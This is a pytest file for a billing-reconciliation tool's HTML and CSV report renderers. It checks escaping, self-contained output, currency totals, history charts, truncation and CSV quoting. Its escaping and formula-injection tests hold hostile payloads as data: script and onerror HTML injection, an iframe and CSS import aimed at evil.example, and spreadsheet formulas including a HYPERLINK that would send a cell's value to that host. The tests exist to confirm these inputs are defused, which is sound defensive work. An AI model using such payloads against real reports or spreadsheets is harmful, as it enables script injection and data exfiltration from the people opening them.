"""HTML and CSV reports: structure, escaping, no external resources, formula injection,
currencies never summed, the history chart, and large-report truncation."""

from __future__ import annotations

import csv
import io
import json
import time
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser

import pytest

from billdrift.core.model import Exposure, Finding, Kind, Severity, Verdict
from billdrift.core.report import Report, SourceInfo
from billdrift.outputs.mask import mask_report
from billdrift.outputs.render import render, renderer_class
from billdrift.outputs.render.csv_format import COLUMNS, safe_number, safe_text
from billdrift.outputs.render.history_points import RunPoint, run_point
from billdrift.outputs.render.html import MAX_PER_KIND, HtmlRenderer
from billdrift.outputs.render.html_trend import NO_HISTORY
from tests.outputs.test_render import sample_report

AS_OF = datetime(2026, 11, 22, 12, 0, tzinfo=UTC)
VOID = {"meta", "br", "col", "img", "input", "link", "hr", "source", "wbr", "area", "base"}


@dataclass
class Page:
    """What a real HTML parser saw: tags, attributes, text, tables, style text."""

    tags: list[tuple[str, dict[str, str]]] = field(default_factory=list)
    text: list[str] = field(default_factory=list)
    styles: list[str] = field(default_factory=list)
    #: Every <table>: its attributes and its rows as lists of cell texts.
    tables: list[tuple[dict[str, str], list[list[str]]]] = field(default_factory=list)

    def named(self, tag: str) -> list[dict[str, str]]:
        return [attrs for name, attrs in self.tags if name == tag]

    def table(self, css_class: str) -> list[list[str]]:
        return next(rows for attrs, rows in self.tables if attrs.get("class") == css_class)


class _Parser(HTMLParser):
    """Parses with the standard library and fails on any unbalanced or misnested tag."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.page = Page()
        self.stack: list[str] = []
        self.in_style = False
        self.rows: list[list[list[str]]] = []  # per open table: rows of cells
        self.cell: list[str] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        self.page.tags.append((tag, values))
        if tag == "table":
            self.page.tables.append((values, []))
            self.rows.append(self.page.tables[-1][1])
        elif tag == "tr" and self.rows:
            self.rows[-1].append([])
        elif tag in ("td", "th"):
            self.cell = []
        self.in_style = tag == "style"
        if tag not in VOID:
            self.stack.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.stack and self.stack[-1] == tag, f"</{tag}> closes {self.stack[-3:]}"
        self.stack.pop()
        if tag == "table":
            self.rows.pop()
        elif tag in ("td", "th") and self.cell is not None and self.rows:
            self.rows[-1][-1].append("".join(self.cell).strip())
            self.cell = None
        self.in_style = False

    def handle_data(self, data: str) -> None:
        self.page.text.append(data)
        if self.in_style:
            self.page.styles.append(data)
        if self.cell is not None:
            self.cell.append(data)


def parse(document: str) -> Page:
    parser = _Parser()
    parser.feed(document)
    parser.close()
    assert parser.stack == [], f"unclosed tags: {parser.stack}"
    return parser.page


def assert_self_contained(page: Page) -> None:
    """Nothing the browser would fetch: no scripts, stylesheets, images, imports."""
    assert page.named("script") == []
    assert page.named("link") == []
    assert page.named("img") == [] and page.named("iframe") == []
    for _, attrs in page.tags:
        for name in ("src", "href", "xlink:href", "action", "srcset", "data"):
            value = attrs.get(name)
            if value is not None:
                assert value.startswith("#"), f"external reference {name}={value!r}"
    css = "\n".join(page.styles)
    assert "@import" not in css and "url(" not in css


def three_runs() -> list[RunPoint]:
    # Out of order on purpose: the chart sorts by time.
    return [
        RunPoint(AS_OF - timedelta(days=1), "WARN", {"plan_drift": 2}, {"USD": "58.00"}),
        RunPoint(
            AS_OF - timedelta(days=2),
            "FAIL",
            {"paid_but_blocked": 3, "renamed_kind": 1},
            {"USD": "87.00", "JPY": "5000"},
        ),
        RunPoint(AS_OF, "PASS", {}, {}),
    ]


def finding(kind: Kind = Kind.PAID_BUT_BLOCKED, **changes: object) -> Finding:
    base = Finding(
        kind=kind,
        severity=Severity.HIGH,
        confidence=1.0,
        account_id="a1",
        customer_id="cus_1",
        subscription_id="sub_1",
        exposure=Exposure("29.00", "USD"),
        message="Stripe says sub_1 is active, but the app denies access.",
        fix="Restore access now.",
        evidence={"billing": {"status": "active"}, "app": {"access": False}},
    )
    return replace(base, **changes)  # type: ignore[arg-type]


def report_of(*findings: Finding, **changes: object) -> Report:
    report = Report(
        verdict=Verdict.FAIL,
        as_of=AS_OF,
        fail_on=Severity.HIGH,
        findings=tuple(findings),
        sources=(SourceInfo("billing", "test billing"), SourceInfo("app", "test app")),
        counts={"accounts": 1, "subscriptions": 1, "customers": 1},
    )
    return replace(report, **changes)  # type: ignore[arg-type]


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


# --- snapshots --------------------------------------------------------------------


def test_html_with_history_matches_its_snapshot(snapshot) -> None:  # type: ignore[no-untyped-def]
    snapshot("report-with-history.html", render("html", sample_report(), history=three_runs()))


def test_masked_csv_matches_its_snapshot(snapshot) -> None:  # type: ignore[no-untyped-def]
    # report.csv / report.html (unmasked, no history) are covered by test_render.py. The
    # snapshot fixture reads files with newline translation, so compare LF; the CRLF
    # line ends are checked in test_csv_rows_columns_and_order.
    text = render("csv", mask_report(sample_report(), key=b"snapshot"))
    snapshot("report-masked.csv", text.replace("\r\n", "\n"))


def test_both_formats_are_registered() -> None:
    assert renderer_class("html") is HtmlRenderer and renderer_class("csv").name == "csv"


# --- HTML -------------------------------------------------------------------------


def test_html_is_well_formed_and_self_contained() -> None:
    for history in (None, three_runs()):
        document = render("html", sample_report(), history=history)
        assert document.startswith("<!DOCTYPE html>")
        page = parse(document)
        assert_self_contained(page)
        assert "http://" not in document and "https://" not in document
        csp = [m for m in page.named("meta") if m.get("http-equiv") == "Content-Security-Policy"]
        assert csp and "default-src 'none'" in csp[0]["content"]


def test_html_shows_verdict_as_of_sources_and_urgent_first() -> None:
    page = parse(render("html", sample_report()))
    verdicts = [a for a in page.named("div") if "verdict" in a.get("class", "").split()]
    assert verdicts and "v-FAIL" in verdicts[0]["class"].split()
    text = "".join(page.text)
    assert "2026-11-22T12:00:00Z" in text
    assert "test billing: 5 subscriptions" in text and "test app: 6 accounts" in text
    headings = [a["id"] for a in page.named("h3") if a.get("id", "").startswith("kind-")]
    assert headings == [
        "kind-paid_but_blocked",
        "kind-unpaid_but_active",
        "kind-plan_drift",
        "kind-orphaned_subscription",
        "kind-missing_billing_link",
        "kind-app_fields_disagree",
        "kind-ambiguous",
    ]
    # Evidence is shown, inside a <details>, and the suppressed finding is listed apart.
    assert len(page.named("details")) >= 7
    assert "entitled_status" in text and "legacy import" in text


def test_html_escapes_everything_from_data() -> None:
    hostile = '"><img src=x onerror=alert(1)>'
    report = report_of(
        finding(
            account_id=f"a{hostile}",
            customer_id="cus_<b>bold</b>",
            message="<script>alert(1)</script> & more",
            fix="Click <a href='https://evil.example'>here</a>",
            evidence={"<key>": {"email": "x@example.com<script>"}, "list": ["<i>", 1]},
        ),
        sources=(SourceInfo("billing", "<iframe src=https://evil.example>"),),
        notes=("note with <style>@import url(https://evil.example)</style>",),
        errors=(),
    )
    document = render("html", report, history=[RunPoint(AS_OF, "<svg onload=x>", {"<k>": 1})])
    for raw in ("<script>alert(1)", "<img", "<b>bold", "<a href='", "<iframe", "<svg onload"):
        assert raw not in document, raw
    assert "&lt;script&gt;alert(1)&lt;/script&gt; &amp; more" in document
    page = parse(document)
    assert_self_contained(page)
    # The quote in the id did not end the attribute: the parser reads the whole id back.
    titles = [a["title"] for a in page.named("tr") if "title" in a]
    assert titles == [f"paid_but_blocked a{hostile}"]
    text = "".join(page.text)
    assert "x@example.com<script>" in text and "<key>" in text


def test_html_never_sums_currencies() -> None:
    document = render("html", sample_report())
    rows = parse(document).table("exposure")
    header, *body = rows
    assert header == ["kind", "findings", "JPY/month", "USD/month"]
    total = body[-1]
    assert total == ["all findings", "7", "5000", "116.00"]
    assert dict(zip(header, body[0], strict=True))["USD/month"] == "29.00"
    assert "5116" not in document and "5,116" not in document


def test_html_charts_three_runs() -> None:
    page = parse(render("html", sample_report(), history=three_runs()))
    text = "".join(page.text)
    assert NO_HISTORY not in text
    svgs = page.named("svg")
    # Findings per run, then one chart per currency (never one axis for two currencies).
    assert len(svgs) == 3
    assert [s["aria-label"] for s in svgs] == [
        "Findings per run by kind, 3 runs",
        "Monthly amount at stake in JPY per run",
        "Monthly amount at stake in USD per run",
    ]
    assert len(page.named("circle")) == 6  # 3 runs x 2 currencies
    # Sorted by time: the oldest run's date is the first label under the bars.
    chart = text[text.index("Findings per run") :]
    assert chart.index("2026-11-20") < chart.index("2026-11-21") < chart.index("2026-11-22")
    assert "2026-11-20 12:00Z: 3 paid_but_blocked" in text
    assert "2026-11-20 12:00Z: 1 renamed_kind" in text  # a kind this version no longer has
    assert "2026-11-21 12:00Z: USD 58.00/month" in text
    chart_data = parse(render("html", sample_report(), history=three_runs())).tables
    runs = next(rows for attrs, rows in chart_data if rows and rows[0][0] == "as of")
    assert runs[1:] == [
        ["2026-11-22 12:00Z", "PASS", "0", "0", "0"],
        ["2026-11-21 12:00Z", "WARN", "2", "0", "58.00"],
        ["2026-11-20 12:00Z", "FAIL", "4", "5000", "87.00"],
    ]


def test_html_without_history_says_how_to_record_one() -> None:
    histories: tuple[list[RunPoint] | None, ...] = (None, [])
    for history in histories:
        page = parse(render("html", sample_report(), history=history))
        assert NO_HISTORY in "".join(page.text)
        assert page.named("svg") == []


def test_run_point_from_report_and_naive_times() -> None:
    point = run_point(sample_report(), AS_OF)
    assert point.verdict == "FAIL" and point.findings == 7
    assert point.exposure == {"JPY": "5000", "USD": "116.00"}
    naive = RunPoint(datetime(2026, 11, 1, 9, 30), "PASS")
    assert naive.when == datetime(2026, 11, 1, 9, 30, tzinfo=UTC)
    # Naive and aware times sort together instead of raising TypeError.
    parse(render("html", sample_report(), history=[naive, *three_runs()]))


def test_error_report_in_html_and_csv() -> None:
    report = report_of(verdict=Verdict.ERROR, errors=("cannot read <app.sqlite>",))
    page = parse(render("html", report))
    assert "cannot read <app.sqlite>" in "".join(page.text)
    assert [a for a in page.named("div") if "v-ERROR" in a.get("class", "")]
    assert page.named("table") == []  # an error run lists no findings
    # The reason as an `error` row: a header alone would read like a run without drift.
    error_row = dict.fromkeys(COLUMNS, "") | {
        "kind": "error",
        "message": "cannot read <app.sqlite>",
    }
    assert csv_rows(render("csv", report)) == [list(COLUMNS), [error_row[c] for c in COLUMNS]]


def big_report(n: int = 35_000) -> Report:
    """n findings: most of them paid_but_blocked, the rest plan_drift and ambiguous."""
    kinds = [Kind.PAID_BUT_BLOCKED] * 8 + [Kind.PLAN_DRIFT, Kind.AMBIGUOUS]
    evidence = {
        "billing": {"provider": "stripe", "status": "active", "source": "x.json:data[1]"},
        "app": {"access": False, "fields": {"has_paid_access": "false"}, "source": "app:row 1"},
        "match": {"method": "customer_id", "confidence": 1.0},
    }
    findings = [
        Finding(
            kind=kinds[i % 10],
            severity=Severity.HIGH,
            confidence=1.0,
            account_id=f"acct_{i}",
            customer_id=f"cus_{i:08d}",
            subscription_id=f"sub_{i:08d}",
            exposure=Exposure("29.00", "USD" if i % 2 else "EUR"),
            message=f"Stripe says sub_{i:08d} is active, but the app denies access.",
            fix=f"Restore access for account acct_{i}.",
            evidence=evidence,
        )
        for i in range(n)
    ]
    return report_of(*findings)


def test_large_report_is_truncated_with_a_note_and_fast() -> None:
    report = big_report()
    started = time.perf_counter()
    document = render("html", report)
    elapsed = time.perf_counter() - started
    # About 0.3 s on a laptop; the bound only catches an accidental quadratic.
    assert elapsed < 10, f"35,000 findings took {elapsed:.1f}s"
    page = parse(document)
    rows = [a for a in page.named("tr") if "title" in a]
    assert len(rows) == 3 * MAX_PER_KIND  # 28,000 + 3,500 + 3,500, each capped at 1,000
    text = " ".join("".join(page.text).split())
    assert "27,000 more paid_but_blocked findings are not listed here" in text
    assert "2,500 more plan_drift findings" in text
    assert "32,000 of 35,000 are not shown" in text
    assert "The JSON (--format json) and CSV (--format csv) reports list all of them" in text
    assert len(document) < 20_000_000
    # The CSV has every one of them.
    assert len(csv_rows(render("csv", report))) == 35_001


def test_small_report_has_no_truncation_note() -> None:
    assert "not listed here" not in render("html", sample_report())


# --- CSV --------------------------------------------------------------------------


def test_csv_rows_columns_and_order() -> None:
    text = render("csv", sample_report())
    assert text.startswith(",".join(COLUMNS) + "\r\n")  # RFC 4180: header, CRLF
    header, *rows = csv_rows(text)
    assert header == list(COLUMNS)
    by_column = [dict(zip(header, row, strict=True)) for row in rows]
    assert [r["kind"] for r in by_column] == [
        "paid_but_blocked",
        "unpaid_but_active",
        "plan_drift",
        "orphaned_subscription",
        "missing_billing_link",
        "app_fields_disagree",
        "ambiguous",
    ]
    first = by_column[0]
    assert (first["account_id"], first["monthly_amount"], first["currency"]) == (
        "a1",
        "29.00",
        "USD",
    )
    assert json.loads(first["evidence"])["match"]["method"] == "customer_id"
    # Suppressed findings are not reported rows (they are in the JSON report).
    assert all(r["account_id"] != "a7" for r in by_column)
    # No exposure: empty amount and currency, not "None".
    missing = next(r for r in by_column if r["kind"] == "missing_billing_link")
    assert missing["monthly_amount"] == "" and missing["currency"] == ""


@pytest.mark.parametrize(
    "payload",
    [
        '=HYPERLINK("https://evil.example?x="&A1,"click")',
        "+1",
        "-2+3",
        "@SUM(1)",
        "\t=1+1",
        "\r=1+1",
        "\uff1d1+1",  # full-width equals sign
    ],
)
def test_csv_defuses_formulas_in_every_text_cell(payload: str) -> None:
    report = report_of(
        finding(
            account_id=payload,
            customer_id=payload,
            subscription_id=payload,
            message=payload,
            fix=payload,
            exposure=Exposure("29.00", payload),
            evidence={"x": 1},
        )
    )
    header, row = csv_rows(render("csv", report))
    cells = dict(zip(header, row, strict=True))
    for column in ("account_id", "customer_id", "subscription_id", "currency", "message", "fix"):
        assert cells[column] == "'" + payload, column
    assert cells["monthly_amount"] == "29.00"  # a number stays a number
    assert cells["confidence"] == "1.0"


def test_csv_leaves_harmless_cells_alone_and_numbers_numeric() -> None:
    assert safe_text("a1") == "a1"
    assert safe_text("cus - x = y") == "cus - x = y"  # only a leading trigger counts
    assert safe_text("") == ""
    assert safe_number("29.00") == "29.00"
    assert safe_number("-5.00") == "-5.00"  # a negative amount is a number, not a formula
    assert safe_number("-2+3") == "'-2+3"
    assert safe_number("=1") == "'=1"


def test_csv_quotes_commas_quotes_and_newlines() -> None:
    message = 'says "hi", then\r\nleaves'
    header, row = csv_rows(render("csv", report_of(finding(message=message))))
    assert dict(zip(header, row, strict=True))["message"] == message


def test_csv_keeps_unicode() -> None:
    text = render("csv", report_of(finding(account_id="Zoë", message="München ✓")))
    assert "Zoë" in text and "München ✓" in text
